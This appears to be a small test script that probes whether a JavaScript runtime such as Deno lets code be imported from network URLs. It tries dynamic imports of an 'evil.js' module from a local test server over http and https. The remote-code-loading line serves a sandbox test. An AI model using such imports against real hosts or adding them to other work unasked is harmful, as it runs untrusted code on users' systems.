// Tries: code from the network, by https: and http: URLs.
// Origin: Deno's default list of import hosts.

const settle = async (load) => {
  let outcome;
  load().then((module) => outcome = { module }, (error) => outcome = { error });
  for (let turn = 0; turn < 300 && !outcome; turn++) {
    if (typeof Deno === "object") await new Promise((resolve) => setTimeout(resolve, 5));
    else await crypto.subtle.digest("SHA-256", new Uint8Array(100000));
  }
  return outcome?.module ?? outcome?.error ?? "nothing";
};

const found = [];
for (const scheme of ["http", "https"]) found.push(String(await settle(() => import(`${scheme}://127.0.0.1:${input.tcp}/evil.js`))));
return found;
